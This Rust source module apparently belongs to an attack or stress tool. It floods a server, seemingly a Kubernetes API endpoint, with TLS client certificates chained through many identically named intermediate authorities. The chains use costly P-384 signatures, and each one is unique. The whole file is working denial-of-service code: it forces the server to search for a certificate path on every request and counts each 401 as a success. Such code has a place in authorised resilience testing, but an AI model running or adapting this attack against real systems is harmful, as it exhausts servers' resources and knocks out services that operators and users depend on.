//! Clients with certificates that no authority has signed. Each has a connection and a chain of its own for each request, so that the server
//! has to search for a path each time.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use anyhow::{Context, Result, ensure};
use rcgen::{
    BasicConstraints, CertificateParams, DistinguishedName, DnType, IsCa, Issuer, KeyPair,
    PKCS_ECDSA_P384_SHA384,
};
use rustls::pki_types::{CertificateDer, PrivatePkcs8KeyDer};
use tokio::io::AsyncWriteExt;
use tokio::task::JoinSet;

use super::{AttackClient, AttackState, OpenConnection, count, start_clients};
use crate::wire::response::read_head;

/// Intermediate certificates of a chain, in turn: as many as the server lets into a path, and as many as fit into a chain.
const INTERMEDIATES: [usize; 2] = [3, 9];
/// Longest time without a byte of a response.
const ANSWER_WAIT: Duration = Duration::from_secs(30);
const PATH: &str = "/api/v1/pods?limit=1";

/// The certificate of an authority. All have the same name, so that any may have signed any other.
pub fn authority() -> CertificateParams {
    let mut params = named("authority");
    params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    params
}

fn named(name: &str) -> CertificateParams {
    let mut params = CertificateParams::default();
    params.distinguished_name = DistinguishedName::new();
    params.distinguished_name.push(DnType::CommonName, name);
    params
}

/// Makes chains that differ from each other.
struct ChainSource {
    /// The first one signs the clients' certificates.
    issuer: Issuer<'static, KeyPair>,
    /// Each is signed by the next one, the last one by an authority that is never sent.
    intermediates: Vec<CertificateDer<'static>>,
    key: KeyPair,
    made: AtomicU64,
}

impl ChainSource {
    fn new() -> Result<Self> {
        let mut signer = Issuer::new(authority(), authority_key()?);
        let mut intermediates = Vec::new();
        for _ in 0..INTERMEDIATES[1] {
            let key = authority_key()?;
            let certificate = authority().signed_by(&key, &signer)?;
            intermediates.push(certificate.der().clone());
            signer = Issuer::new(authority(), key);
        }
        intermediates.reverse();
        Ok(Self {
            issuer: signer,
            intermediates,
            key: KeyPair::generate()?,
            made: AtomicU64::new(0),
        })
    }

    /// The next chain: its serial number tells it from all others.
    fn next(&self) -> Result<Vec<CertificateDer<'static>>> {
        let number = self.made.fetch_add(1, Ordering::Relaxed);
        let mut params = named("client");
        params.serial_number = Some(number.into());
        let certificate = params.signed_by(&self.key, &self.issuer)?;
        let count = INTERMEDIATES[number as usize % INTERMEDIATES.len()];
        let others = self.intermediates[..count].iter().cloned();
        Ok([certificate.der().clone()]
            .into_iter()
            .chain(others)
            .collect())
    }
}

/// Its signatures cost more to verify than those of P-256.
fn authority_key() -> Result<KeyPair> {
    Ok(KeyPair::generate_for(&PKCS_ECDSA_P384_SHA384)?)
}

pub(super) fn begin(state: &Arc<AttackState>, clients: &mut JoinSet<()>) -> Result<()> {
    let chains = Arc::new(ChainSource::new()?);
    start_clients(state, clients, move |client| {
        let chains = chains.clone();
        async move { tokio::time::timeout(ANSWER_WAIT, present(&client, &chains)).await? }
    });
    Ok(())
}

/// One request with the next chain; an error if the server did not look at the chain.
async fn present(client: &AttackClient, chains: &ChainSource) -> Result<()> {
    let state = &client.state;
    let target = &state.flags.target;
    let tls = target.tls.as_ref().context("the target has no TLS")?;
    let key = PrivatePkcs8KeyDer::from(chains.key.serialize_der());
    let config = tls.config_as("http/1.1", chains.next()?, key.into())?;
    let mut stream = target.connect_with(client.source(), Some(config)).await?;
    let _open = OpenConnection::of(state);
    stream
        .write_all(&target.fetch_text_as(PATH, "application/json"))
        .await?;
    let head = read_head(&mut stream, &mut false).await?;
    ensure!(head.status == 401, "{} for an invalid chain", head.status);
    count(&state.counts.done);
    Ok(())
}
